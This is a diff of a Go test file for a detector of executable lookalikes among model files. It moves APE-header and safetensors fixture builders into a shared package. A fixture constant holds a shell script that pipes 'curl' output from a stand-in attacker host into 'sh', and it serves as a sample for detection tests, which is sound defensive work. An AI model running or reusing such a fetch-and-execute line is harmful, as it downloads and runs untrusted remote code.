@@ -69,15 +69,8 @@ func classFile() []byte {
 	return h
 }
 
-// apeHeader is a fat APE's prologue: a DOS header that is also a shell
-// assignment (what llamafile and cosmocc binaries start with).
-func apeHeader(magic string) []byte {
-	h := []byte(magic + "\n\x00\x00\x00\x00\x10\x00\xf8\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00")
-	h = append(h, make([]byte, 0x40-len(h))...)
-	binary.LittleEndian.PutUint32(h[0x3c:], 0x80)
-	h = append(h, []byte("'\n#'\"\nexec 7<> \"$(command -v \"$0\")\" || exit 121\n")...)
-	return append(h, make([]byte, 300)...)
-}
+// apeHeader is a fat APE's prologue (modelcorpus.APE).
+func apeHeader(magic string) []byte { return modelcorpus.APE(magic) }
 
 const shebang = "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
 
@@ -241,13 +234,9 @@ func TestExecutableLookalikesServed(t *testing.T) {
 	})
 }
 
-// stWithHeaderLen lays out a safetensors file (8-byte little-endian header
-// length, JSON header padded with spaces to exactly hlen bytes, zeroed
-// tensor data) with a header length chosen by the test.
+// stWithHeaderLen is modelcorpus.SafetensorsHeaderLen.
 func stWithHeaderLen(header string, dataLen uint64, hlen int) []byte {
-	out := binary.LittleEndian.AppendUint64(nil, uint64(hlen))
-	out = append(out, header+strings.Repeat(" ", hlen-len(header))...)
-	return append(out, make([]byte, dataLen)...)
+	return modelcorpus.SafetensorsHeaderLen(header, dataLen, hlen)
 }
 
 // FuzzSniffExecutable: whatever the bytes, sniffing never panics, and a
